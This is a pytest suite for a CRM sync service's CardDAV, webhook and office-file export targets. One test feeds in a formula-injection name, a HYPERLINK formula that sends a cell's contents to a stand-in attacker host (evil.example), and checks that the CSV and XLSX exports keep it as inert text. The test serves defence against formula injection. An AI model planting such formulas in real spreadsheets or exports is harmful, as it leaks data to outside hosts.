"""Targets against real local servers: Radicale (CardDAV) and a webhook
receiver; office files on disk. No Odoo needed."""

import csv
import hashlib
import hmac
import io
import json
import os
import stat
import subprocess
import sys
import urllib.request

import pytest
import vobject
from servers import Radicale
from sync_helpers import FakeOdoo, Recorder, odoo_table
from test_sync_http import Script
from test_sync_morning import FakeMorning

from sync_service.config import Secret, TargetConfig
from sync_service.errors import TargetError
from sync_service.targets.carddav import CardDavTarget
from sync_service.targets.files import FileTarget
from sync_service.targets.webhook import WebhookTarget


def customer(partner_id, name, **values):
    return {
        "partner_id": partner_id,
        "uid": f"crm-test-partner-{partner_id}",
        "name": name,
        "is_company": True,
        "email": f"c{partner_id}@example.com",
        "phone": "+972 3 555 0101",
        "city": "תל אביב",
        "write_date": "2026-11-20 10:00:00",
        "content_hash": f"hash-{partner_id}-{values.get('phone', '')}",
        "binding": False,
        **values,
    }


@pytest.fixture(scope="module")
def radicale(tmp_path_factory):
    server = Radicale(tmp_path_factory.mktemp("radicale")).start()
    yield server
    server.stop()


def test_carddav_create_update_conflict_delete(radicale):
    book = radicale.make_address_book("phones")
    target = CardDavTarget(
        TargetConfig(
            name="phones",
            kind="carddav",
            url=book,
            username="test",
            password=Secret("x"),
            max_retries=1,
        )
    )
    hebrew = customer(1, "אלקטרה שירותים בע״מ")
    [created] = target.apply({"upserts": [hebrew], "deletes": []})
    assert created["etag"]
    card = radicale.get(created["href"])
    assert "ORG:אלקטרה שירותים בע״מ" in card
    assert "UID:crm-test-partner-1" in card
    # update with the known ETag
    changed = customer(1, "אלקטרה שירותים בע״מ", phone="+972 3 555 0199")
    changed["binding"] = {"href": created["href"], "etag": created["etag"]}
    [updated] = target.apply({"upserts": [changed], "deletes": []})
    assert updated["etag"] != created["etag"]
    # someone edited the card meanwhile: stale ETag → 412 → re-read, retry once
    stale = customer(1, "אלקטרה", phone="+972 3 555 0111")
    stale["binding"] = {"href": created["href"], "etag": created["etag"]}
    [retried] = target.apply({"upserts": [stale], "deletes": []})
    card = radicale.get(retried["href"])
    assert "0111" in card
    # a card created by an earlier, killed run: If-None-Match fails → retried
    [again] = target.apply({"upserts": [customer(1, "אלקטרה")], "deletes": []})
    assert again["href"] == created["href"]
    results = target.apply({"upserts": [], "deletes": [{"binding_id": 7, **again}]})
    assert results == [{"binding_id": 7, "deleted": True}]
    with pytest.raises(urllib.error.HTTPError):
        radicale.get(again["href"])
    # deleting what is already gone is fine
    assert target.apply({"upserts": [], "deletes": [{"binding_id": 7, **again}]})


def test_carddav_unreachable_is_a_clear_error():
    target = CardDavTarget(
        TargetConfig(
            name="x",
            kind="carddav",
            url="http://127.0.0.1:9/book/",
            max_retries=1,
            timeout=2,
        )
    )
    with pytest.raises(TargetError, match="127.0.0.1:9"):
        target.apply({"upserts": [customer(1, "A")], "deletes": []})


def _webhook(url, retries=3):
    return WebhookTarget(
        TargetConfig(
            name="hook",
            kind="webhook",
            url=url,
            secret=Secret("hook-secret"),
            max_retries=retries,
            timeout=1,
        ),
        sleep=lambda seconds: sleeps.append(seconds),
    )


sleeps = []


def test_webhook_signs_and_honours_retry_after():
    sleeps.clear()
    receiver = Recorder(
        answers=[(429, {"Retry-After": "3"}, 0), (503, {}, 0), (200, {}, 0)]
    )
    try:
        results = _webhook(receiver.url).apply(
            {"upserts": [customer(5, "Northwind")], "deletes": []}
        )
    finally:
        receiver.close()
    assert results[0]["partner_id"] == 5
    assert sleeps == [3.0, 2]
    headers, body, status = receiver.received[-1]
    assert status == 200
    expected = hmac.new(
        b"hook-secret", f"{headers['X-Crm-Timestamp']}.".encode() + body, hashlib.sha256
    ).hexdigest()
    assert headers["X-Crm-Signature"] == expected
    assert headers["Idempotency-Key"].startswith("crm-test-partner-5:")
    assert json.loads(body)["customer"]["city"] == "תל אביב"
    # the retries of one delivery carry the same key
    assert len({h["Idempotency-Key"] for h, _b, _s in receiver.received}) == 1


def test_webhook_gives_up_clearly():
    receiver = Recorder(answers=[(500, {}, 0)] * 3)
    try:
        with pytest.raises(TargetError, match="gave up after 3 attempts"):
            _webhook(receiver.url, retries=2).apply(
                {"upserts": [customer(5, "N")], "deletes": []}
            )
    finally:
        receiver.close()


def test_webhook_timeout_is_retried():
    receiver = Recorder(answers=[(200, {}, 2), (200, {}, 0)])
    try:
        results = _webhook(receiver.url).apply(
            {"upserts": [customer(6, "Slow")], "deletes": []}
        )
    finally:
        receiver.close()
    assert results[0]["partner_id"] == 6


@pytest.mark.parametrize("kind", ["csv_file", "xlsx_file", "vcard_file"])
def test_office_files(tmp_path, kind):
    path = tmp_path / f"customers.{kind.split('_')[0]}"
    target = FileTarget(TargetConfig(name="office", kind=kind, path=path))
    target.apply(
        {"upserts": [customer(1, "בית הדפוס"), customer(2, "Acme")], "deletes": []}
    )
    target.finish()
    data = path.read_bytes()
    if kind == "csv_file":
        assert data.startswith(b"\xef\xbb\xbf"), "BOM for Excel"
        rows = list(csv.reader(data.decode("utf-8-sig").splitlines()))
        assert rows[0][0] == "Name" and rows[2][0] == "בית הדפוס"
    elif kind == "xlsx_file":
        import openpyxl

        sheet = openpyxl.load_workbook(path).active
        assert sheet["A3"].value == "בית הדפוס"
    else:
        assert data.decode().count("BEGIN:VCARD") == 2
    assert not list(tmp_path.glob(".customers*")), "no temporary file left"


def _carddav(url, retries=2):
    return CardDavTarget(
        TargetConfig(
            name="phones",
            kind="carddav",
            url=url,
            username="test",
            password=Secret("x"),
            max_retries=retries,
            timeout=2,
        ),
        sleep=sleeps.append,
    )


def test_carddav_one_refused_card_does_not_stop_the_others():
    sleeps.clear()
    server = Recorder(
        answers=[
            (201, {"ETag": '"e1"'}, 0),
            (413, {}, 0),  # this card is too large for the server
            (201, {"ETag": '"e3"'}, 0),
        ]
    )
    try:
        results = _carddav(server.url + "/book/").apply(
            {
                "upserts": [customer(1, "A"), customer(2, "Big"), customer(3, "C")],
                "deletes": [],
            }
        )
    finally:
        server.close()
    assert [r.get("etag") for r in results] == ['"e1"', None, '"e3"']
    assert results[1]["partner_id"] == 2 and "HTTP 413" in results[1]["error"]
    assert [method for method, *_rest in server.requests] == ["PUT"] * 3
    assert sleeps == [], "a refusal is not retried"


def test_carddav_retries_5xx_and_429_honouring_retry_after():
    sleeps.clear()
    server = Recorder(
        answers=[
            (503, {"Retry-After": "7"}, 0),
            (429, {"Retry-After": "2"}, 0),
            (500, {}, 0),
            (201, {"ETag": '"e1"'}, 0),
        ]
    )
    try:
        [result] = _carddav(server.url + "/book/", retries=3).apply(
            {"upserts": [customer(1, "A")], "deletes": []}
        )
    finally:
        server.close()
    assert result["etag"] == '"e1"'
    assert sleeps == [7.0, 2.0, 4]
    assert len(server.requests) == 4


def test_carddav_server_down_fails_the_whole_target():
    sleeps.clear()
    server = Recorder(answers=[(503, {}, 0)] * 3)
    try:
        with pytest.raises(TargetError, match="gave up after 3 attempts"):
            _carddav(server.url + "/book/").apply(
                {"upserts": [customer(1, "A"), customer(2, "B")], "deletes": []}
            )
    finally:
        server.close()
    assert sleeps == [1, 2]


@pytest.mark.parametrize("status", [401, 403])
def test_carddav_refused_credentials_fail_the_whole_target(status):
    server = Recorder(answers=[(status, {}, 0)])
    try:
        with pytest.raises(TargetError, match=f"HTTP {status}.*credentials"):
            _carddav(server.url + "/book/").apply(
                {"upserts": [customer(1, "A"), customer(2, "B")], "deletes": []}
            )
    finally:
        server.close()
    assert len(server.requests) == 1, "no other card tried"


def test_carddav_refused_delete_is_that_customers_error():
    server = Recorder(answers=[(409, {}, 0), (204, {}, 0)])
    try:
        results = _carddav(server.url + "/book/").apply(
            {
                "upserts": [],
                "deletes": [
                    {
                        "binding_id": 4,
                        "href": "/book/a.vcf",
                        "etag": '"x"',
                        "uid": "crm-abc-partner-41",
                    },
                    {"binding_id": 5, "href": "/book/b.vcf", "etag": '"y"'},
                ],
            }
        )
    finally:
        server.close()
    assert results[0]["partner_id"] == 41 and "HTTP 409" in results[0]["error"]
    assert results[1] == {"binding_id": 5, "deleted": True}


def test_vcard_note_with_crlf_stays_one_card(radicale):
    book = radicale.make_address_book("notes")
    target = CardDavTarget(
        TargetConfig(name="notes", kind="carddav", url=book, username="test")
    )
    windows_note = "Call before noon.\r\nAsk for Dana\rnot Dan\n\nend"
    [result] = target.apply(
        {"upserts": [customer(9, "Notes Ltd", comment=windows_note)], "deletes": []}
    )
    text = radicale.get(result["href"])
    card = vobject.readOne(text)
    assert card.note.value == "Call before noon.\nAsk for Dana\nnot Dan\n\nend"
    assert card.fn.value == "Notes Ltd"
    assert "\r" not in text.replace("\r\n", "")


def test_webhook_refused_customer_is_an_error_entry_the_others_go_on():
    receiver = Recorder(answers=[(422, {}, 0), (200, {}, 0)])
    try:
        results = _webhook(receiver.url).apply(
            {"upserts": [customer(1, "Bad"), customer(2, "Good")], "deletes": []}
        )
    finally:
        receiver.close()
    assert results[0]["partner_id"] == 1 and "HTTP 422" in results[0]["error"]
    assert results[1]["partner_id"] == 2 and "error" not in results[1]
    assert len(receiver.received) == 2


@pytest.mark.parametrize("status", [401, 403])
def test_webhook_refused_secret_fails_the_whole_target(status):
    receiver = Recorder(answers=[(status, {}, 0)])
    try:
        with pytest.raises(TargetError, match=f"HTTP {status}"):
            _webhook(receiver.url).apply(
                {"upserts": [customer(1, "A"), customer(2, "B")], "deletes": []}
            )
    finally:
        receiver.close()
    assert len(receiver.received) == 1


def test_webhook_idempotency_key_is_new_for_every_change():
    """A -> B -> A -> B, deleted, back, deleted: every change a new key, so a
    receiver that drops seen keys drops none of them; a killed run's change
    sent again keeps its key."""
    receiver = Recorder()
    keys, binding = [], False
    try:
        for step, (change, content) in enumerate(
            [
                ("upsert", "A"),
                ("upsert", "B"),
                ("upsert", "A"),
                ("upsert", "B"),
                ("delete", None),
                ("upsert", "B"),
                ("delete", None),
            ],
            start=1,
        ):
            target = _webhook(receiver.url)
            if change == "upsert":
                # every change in Odoo is a write: a new write date
                item = customer(
                    1,
                    "A",
                    content_hash=content,
                    binding=binding,
                    write_date=f"2026-11-{step:02d} 10:00:00",
                )
                [result] = target.apply({"upserts": [item], "deletes": []})
                binding = {"binding_id": 1, "etag": result["etag"], "uid": item["uid"]}
            else:
                target.apply({"upserts": [], "deletes": [binding]})
                binding = False
            keys.append(receiver.received[-1][0]["Idempotency-Key"])
        # a run killed after its POST, before Odoo recorded it: sent again
        before = {"binding_id": 1, "etag": keys[0], "uid": "crm-test-partner-1"}
        item = customer(
            1, "A", content_hash="B", binding=before, write_date="2026-11-02 10:00:00"
        )
        _webhook(receiver.url).apply({"upserts": [item], "deletes": []})
    finally:
        receiver.close()
    assert len(set(keys)) == len(keys), keys
    assert receiver.received[-1][0]["Idempotency-Key"] == keys[1]
    assert all(key.startswith("crm-test-partner-1:") for key in keys)


def test_webhook_first_delivery_keeps_its_key_after_a_killed_run():
    """A new customer POSTed, then the run killed before Odoo recorded it:
    the next run (another run in Odoo, no binding yet) sends the same key,
    so the receiver drops the duplicate; restored after a delete (a write in
    Odoo), the same content is a new event with a new key."""
    receiver = Recorder()
    new = customer(1, "A", content_hash="A", write_date="2026-11-20 10:00:00")
    restored = {**new, "write_date": "2026-12-01 09:00:00"}
    try:
        for item in (new, new, restored):
            _webhook(receiver.url).apply({"upserts": [item], "deletes": []})
    finally:
        receiver.close()
    first, again, back = [h["Idempotency-Key"] for h, _b, _s in receiver.received]
    assert again == first
    assert back != first


def test_csv_and_xlsx_never_turn_a_name_into_a_formula(tmp_path):
    hostile = customer(
        1,
        '=HYPERLINK("http://evil.example/?"&A2,"Click")',
        phone="+972 3 555 0101",
        email="@SUM(1+1)",
        city="-2+3",
        street="\tTab Street",
        zip="\r7",
        company_name="Acme = Best",
    )
    csv_path, xlsx_path = tmp_path / "customers.csv", tmp_path / "customers.xlsx"
    for kind, path in (("csv_file", csv_path), ("xlsx_file", xlsx_path)):
        target = FileTarget(TargetConfig(name="office", kind=kind, path=path))
        target.apply({"upserts": [hostile], "deletes": []})
        target.finish()
    header, row = csv.reader(
        io.StringIO(csv_path.read_bytes().decode("utf-8-sig"), newline="")
    )
    cells = dict(zip(header, row, strict=True))
    assert cells["Name"] == "'" + hostile["name"]
    assert cells["Phone"] == "+972 3 555 0101", "a phone number is data"
    assert cells["Email"] == "'@SUM(1+1)"
    assert cells["City"] == "'-2+3"
    assert cells["Street"] == "'\tTab Street"
    assert cells["ZIP"] == "'\r7"
    assert cells["Company"] == "Acme = Best", "an = inside is no formula"
    import openpyxl

    sheet = openpyxl.load_workbook(xlsx_path).active
    assert sheet["A2"].value == hostile["name"]
    assert sheet["A2"].data_type == "s", "text, not a formula"
    assert sheet["D2"].value == "+972 3 555 0101"


# -- a wrong URL stops the target (issue 9, point 12) -------------------------


def test_carddav_wrong_url_stops_the_target_after_three_refusals(radicale):
    """Radicale has no address book at this URL: it refuses every card the
    same way. Three in a row stop the target with one error naming it and
    the URL, instead of a sync issue for every customer."""
    radicale.make_address_book("real")
    wrong = f"{radicale.url}/test/no-such-book/"  # Radicale: 409 for every card
    target = CardDavTarget(
        TargetConfig(name="phones", kind="carddav", url=wrong, username="test")
    )
    customers = [customer(n, f"C{n}") for n in range(1, 8)]
    with pytest.raises(TargetError) as error:
        target.apply({"upserts": customers, "deletes": []})
    message = str(error.value)
    assert "target phones" in message and wrong in message
    assert "3 customers in a row" in message and "url" in message


def test_webhook_wrong_url_stops_the_target_after_three_refusals():
    receiver = Recorder(answers=[(404, {}, 0)] * 10)
    try:
        with pytest.raises(TargetError) as error:
            _webhook(receiver.url).apply(
                {"upserts": [customer(n, f"C{n}") for n in range(1, 8)], "deletes": []}
            )
    finally:
        receiver.close()
    assert f"target hook: {receiver.url} refused 3 customers in a row" in str(
        error.value
    )
    assert len(receiver.received) == 3, "no more customers sent"


def test_webhook_different_refusals_are_each_customers_own():
    """404, 409, 404, 422: not the same refusal three times in a row, so each
    is that customer's sync issue and the others go on."""
    receiver = Recorder(answers=[(404, {}, 0), (409, {}, 0), (404, {}, 0)])
    try:
        results = _webhook(receiver.url).apply(
            {"upserts": [customer(n, f"C{n}") for n in range(1, 6)], "deletes": []}
        )
    finally:
        receiver.close()
    assert [bool(r.get("error")) for r in results] == [True, True, True, False, False]


# -- conflicts with edits made in the address book (issue 9, point 13) --------


def _phone_edit(radicale, href, edit):
    """What a phone does: read the card, change it, PUT it with its ETag."""
    cards = radicale.cards(radicale.url + href.rsplit("/", 1)[0] + "/")
    etag, text = cards[href]
    request = urllib.request.Request(
        radicale.url + href,
        data=edit(text).encode(),
        method="PUT",
        headers={
            "Content-Type": "text/vcard; charset=utf-8",
            "If-Match": etag,
            **radicale.auth,
        },
    )
    with urllib.request.urlopen(request, timeout=10):
        pass


def _book(radicale, name):
    book = radicale.make_address_book(name)
    return CardDavTarget(
        TargetConfig(name=name, kind="carddav", url=book, username="test")
    )


def _pushed(target, item):
    [result] = target.apply({"upserts": [item], "deletes": []})
    assert "error" not in result, result
    return {**result, "binding_id": 1, "uid": item["uid"]}


def test_carddav_edit_on_a_phone_is_never_overwritten(radicale):
    """Odoo changes the email while a phone changed the mobile number: the
    card is left as the phone made it and the customer becomes a sync issue
    naming the field and both values."""
    target = _book(radicale, "conflict")
    item = customer(1, "Dana Cohen", is_company=False, mobile="+972 50 111 2222")
    binding = _pushed(target, item)
    _phone_edit(
        radicale,
        binding["href"],
        lambda text: text.replace("+972 50 111 2222", "+972 52 999 8888"),
    )
    edited = radicale.get(binding["href"])
    changed = {**item, "email": "dana@new.example", "binding": binding}
    [result] = target.apply({"upserts": [changed], "deletes": []})
    assert result["partner_id"] == 1
    assert "changed in the address book since the last push" in result["error"]
    assert (
        "mobile: address book '+972 52 999 8888', Odoo '+972 50 111 2222'"
        in (result["error"])
    )
    assert "email" not in result["error"], "only Odoo changed the email"
    assert radicale.get(binding["href"]) == edited, "the card is left as it is"


def test_carddav_odoo_goes_in_when_the_phone_changed_nothing_it_owns(radicale):
    """The phone added a birthday, a field the sync does not write: Odoo's
    change goes in and the birthday stays."""
    target = _book(radicale, "merge")
    item = customer(2, "Acme")
    binding = _pushed(target, item)
    _phone_edit(
        radicale,
        binding["href"],
        lambda text: text.replace("END:VCARD", "BDAY:1980-01-02\r\nEND:VCARD"),
    )
    changed = {**item, "phone": "+972 3 555 0199", "binding": binding}
    [result] = target.apply({"upserts": [changed], "deletes": []})
    assert "error" not in result, result
    card = vobject.readOne(radicale.get(result["href"]))
    assert card.tel.value == "+972 3 555 0199"
    assert card.bday.value == "1980-01-02", "what the phone added is kept"


def test_carddav_same_change_on_both_sides_is_no_conflict(radicale):
    target = _book(radicale, "same")
    item = customer(3, "Same Ltd")
    binding = _pushed(target, item)
    _phone_edit(
        radicale,
        binding["href"],
        lambda text: text.replace("c3@example.com", "INFO@same.example"),
    )
    changed = {**item, "email": "info@same.example", "binding": binding}
    [result] = target.apply({"upserts": [changed], "deletes": []})
    assert "error" not in result, result
    assert "info@same.example" in radicale.get(result["href"])


def test_carddav_delete_of_a_card_edited_on_a_phone_is_refused(radicale):
    """Archived in Odoo, edited on a phone meanwhile: the card stays, a sync
    issue says why; a card changed only in what the sync does not write goes."""
    target = _book(radicale, "deletes")
    kept = _pushed(target, customer(4, "Kept Ltd"))
    gone = _pushed(target, customer(5, "Gone Ltd"))
    _phone_edit(
        radicale,
        kept["href"],
        lambda text: text.replace("+972 3 555 0101", "+972 3 555 0404"),
    )
    _phone_edit(
        radicale,
        gone["href"],
        lambda text: text.replace("END:VCARD", "BDAY:1990-05-06\r\nEND:VCARD"),
    )
    stale = {"uid": "crm-test-partner-4"}
    results = target.apply(
        {
            "upserts": [],
            "deletes": [
                {**kept, **stale, "binding_id": 4},
                {**gone, "binding_id": 5},
            ],
        }
    )
    assert results[0]["binding_id"] == 4 and results[0]["partner_id"] == 4
    assert "not deleted" in results[0]["error"]
    assert "phone '+972 3 555 0404'" in results[0]["error"]
    assert radicale.exists(kept["href"])
    assert results[1] == {"binding_id": 5, "deleted": True}
    assert not radicale.exists(gone["href"])


def test_carddav_card_deleted_on_a_phone_comes_back(radicale):
    target = _book(radicale, "comeback")
    item = customer(6, "Back Ltd")
    binding = _pushed(target, item)
    request = urllib.request.Request(
        radicale.url + binding["href"], method="DELETE", headers=radicale.auth
    )
    with urllib.request.urlopen(request, timeout=10):
        pass
    [result] = target.apply(
        {
            "upserts": [{**item, "phone": "+972 3 555 0606", "binding": binding}],
            "deletes": [],
        }
    )
    assert "error" not in result, result
    assert "0606" in radicale.get(result["href"])


# -- files and vCards (issue 9, point 15) -------------------------------------


@pytest.mark.parametrize("kind", ["csv_file", "xlsx_file", "vcard_file"])
def test_exported_files_are_readable_by_a_web_server(tmp_path, kind):
    path = tmp_path / "share" / f"customers.{kind.split('_')[0]}"
    previous = os.umask(0o022)
    try:
        target = FileTarget(TargetConfig(name="office", kind=kind, path=path))
        target.apply({"upserts": [customer(1, "A")], "deletes": []})
        target.finish()
        assert stat.S_IMODE(path.stat().st_mode) == 0o644
        # a file someone made group-only keeps its mode when written again
        path.chmod(0o640)
        target.finish()
        assert stat.S_IMODE(path.stat().st_mode) == 0o640
    finally:
        os.umask(previous)


def test_csv_numbers_and_phone_numbers_stay_data(tmp_path):
    path = tmp_path / "customers.csv"
    target = FileTarget(TargetConfig(name="office", kind="csv_file", path=path))
    target.apply(
        {
            "upserts": [
                customer(
                    1,
                    "Phones",
                    phone="+972-3-1234567",
                    mobile="+1 (555) 010-9999",
                    zip="-12.5",
                    city="+2+3",
                    street="-2-3",
                )
            ],
            "deletes": [],
        }
    )
    target.finish()
    header, row = csv.reader(
        io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")
    )
    cells = dict(zip(header, row, strict=True))
    assert cells["Phone"] == "+972-3-1234567"
    assert cells["Mobile"] == "+1 (555) 010-9999"
    assert cells["ZIP"] == "-12.5"
    assert cells["City"] == "'+2+3", "a sum, not a number"
    assert cells["Street"] == "'-2-3"


def test_vcard_name_parts_and_escaped_values(radicale):
    """A person's name splits into given and family names; a company's goes
    whole into N's family part and ORG. A map link with a comma, a dial
    string with pauses and an odd email come back as they were."""
    target = _book(radicale, "names")
    person = customer(
        7,
        "Dana Levi Cohen",
        is_company=False,
        company_name="Acme, Ltd",
        website="https://maps.example.com/?q=32.08,34.78;z=12",
        phone="+972-3-5550101,,12",
        email='"dana,cohen"@example.com',
    )
    company = customer(8, "אלקטרה שירותים בע״מ")
    results = target.apply({"upserts": [person, company], "deletes": []})
    card = vobject.readOne(radicale.get(results[0]["href"]))
    assert (card.n.value.given, card.n.value.additional, card.n.value.family) == (
        "Dana",
        "Levi",
        "Cohen",
    )
    assert card.org.value == ["Acme, Ltd"]
    assert card.url.value == "https://maps.example.com/?q=32.08,34.78;z=12"
    assert card.tel.value == "+972-3-5550101,,12"
    assert card.email.value == '"dana,cohen"@example.com'
    card = vobject.readOne(radicale.get(results[1]["href"]))
    assert card.n.value.family == "אלקטרה שירותים בע״מ"
    assert card.org.value == ["אלקטרה שירותים בע״מ"]


# -- crm-sync status (issue 9, point 12) --------------------------------------


def test_status_tries_every_source_and_target(radicale, tmp_path):
    """`crm-sync status` logs in to Odoo, Tryton and Morning, reads the drop
    folder, PROPFINDs each address book, pings each webhook and writes in
    the file target's folder: a wrong address book URL (a folder that takes
    cards but is no address book) and a webhook URL answering 404 are named."""
    book = radicale.make_address_book("status")
    odoo, hook, no_hook = FakeOdoo(), Recorder(), Recorder(answers=[(404, {}, 0)])
    morning = FakeMorning([])
    tryton = Script(body=json.dumps({"id": 1, "result": [1, "session"]}).encode())
    (tmp_path / "drop").mkdir()
    (tmp_path / "drop" / "waiting.csv").write_text("Invoice ID\n")
    path = tmp_path / "crm-sync.toml"
    path.write_text(
        f"""
{odoo_table(odoo.url, "crm", "sync", "STATUS_SECRET")}
[[sources]]
name = "finance"
kind = "csv"
folder = "drop"
[sources.columns]
external_id = "Invoice ID"
issued_on = "Date"
amount_total = "Total"

[[sources]]
name = "morning"
kind = "morning"
url = "{morning.url}"
api_id = "api-id"
api_secret = {{env = "MORNING_SECRET"}}

[[sources]]
name = "tryton"
kind = "tryton"
url = "{tryton.url}"
database = "crm"
username = "admin"
password = {{env = "STATUS_SECRET"}}

[[targets]]
name = "phones"
kind = "carddav"
url = "{book}"
username = "test"
password = {{env = "STATUS_SECRET"}}

[[targets]]
name = "not-a-book"
kind = "carddav"
url = "{radicale.url}/test/"
username = "test"
password = {{env = "STATUS_SECRET"}}

[[targets]]
name = "hook"
kind = "webhook"
url = "{hook.url}"
secret = {{env = "STATUS_SECRET"}}

[[targets]]
name = "no-hook"
kind = "webhook"
url = "{no_hook.url}"
secret = {{env = "STATUS_SECRET"}}

[[targets]]
name = "office"
kind = "csv_file"
path = "share/customers.csv"
"""
    )
    try:
        status = subprocess.run(
            [sys.executable, "-m", "sync_service", "--config", str(path), "status"],
            capture_output=True,
            text=True,
            timeout=120,
            env=dict(os.environ, STATUS_SECRET="s3cret", MORNING_SECRET="api-secret"),
        )
    finally:
        for server in (odoo, hook, no_hook, morning, tryton):
            server.close()
    out, err = status.stdout, status.stderr
    assert status.returncode == 1, err
    assert f"odoo: {odoo.url} (Odoo 18.0) database crm: logged in as sync" in out
    assert "sources[0] finance (csv): " in out and "(1 waiting)" in out
    assert "sources[1] morning (morning): API key accepted" in out
    assert "sources[2] tryton (tryton): logged in as admin" in out
    assert "targets[0] phones (carddav): address book 'status'" in out
    assert "targets[2] hook (webhook): a signed ping accepted" in out
    assert f"targets[4] office (csv_file): {tmp_path} is writable" in out
    assert (
        f"targets[1] not-a-book (carddav): PROPFIND {radicale.url}/test/: a folder, "
        "not an address book" in err
    )
    assert f"targets[3] no-hook (webhook): webhook {no_hook.url}: a signed ping" in err
    assert "HTTP 404" in err
    [(headers, body, _status)] = hook.received
    assert json.loads(body) == {"event": "ping"}
    assert (
        headers["X-Crm-Signature"]
        == hmac.new(
            b"s3cret", f"{headers['X-Crm-Timestamp']}.".encode() + body, hashlib.sha256
        ).hexdigest()
    )
    assert "s3cret" not in out + err
    assert not (tmp_path / "share").exists(), "nothing written"
